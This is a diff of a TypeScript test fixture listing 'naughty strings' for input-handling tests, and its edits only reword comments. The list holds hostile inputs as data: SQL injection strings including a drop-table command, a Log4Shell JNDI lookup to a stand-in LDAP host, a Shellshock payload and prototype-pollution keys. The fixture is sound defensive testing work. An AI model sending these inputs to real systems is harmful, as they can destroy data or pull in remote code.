@@ -1,6 +1,6 @@
-/** Texts that have broken software before; each must come back unchanged or be refused in words. */
+/** Texts that have broken software before; each must be stored unchanged or refused with a sentence. */
 export const naughtyStrings: string[] = [
-	// SQL, in the ways of both engines
+	// SQL of both engines
 	`'; drop table posts; --`,
 	`' or '1'='1`,
 	`1; select pg_sleep(10)`,
@@ -29,7 +29,7 @@ export const naughtyStrings: string[] = [
 	'\u001b[31mred\u001b[0m \u0007',
 	'\u0024{jndi:ldap://friends.example/a}',
 	'() { :;}; echo vulnerable',
-	// Names of JavaScript's own things
+	// Names of JavaScript's own properties and values
 	'__proto__',
 	'constructor',
 	'prototype',
@@ -40,7 +40,7 @@ export const naughtyStrings: string[] = [
 	'NaN',
 	'true',
 	'[object Object]',
-	// Numbers that are text
+	// Numbers as text
 	'0',
 	'-1',
 	'007',
@@ -49,7 +49,7 @@ export const naughtyStrings: string[] = [
 	'0x1F',
 	'1/0',
 	'١٢٣',
-	// JSON that is text
+	// JSON as text
 	'{"a":1}',
 	'["x"]',
 	'"quoted"',
@@ -69,7 +69,7 @@ export const naughtyStrings: string[] = [
 	'ﬀ ẞ İ ı ſ K',
 	'\ufffe \uffff \ufdd0',
 	'\u2028line\u2029paragraph',
-	// What cannot be stored
+	// Text that cannot be stored
 	'nul\u0000inside',
 	'\u0000',
 	'high \ud800 alone',
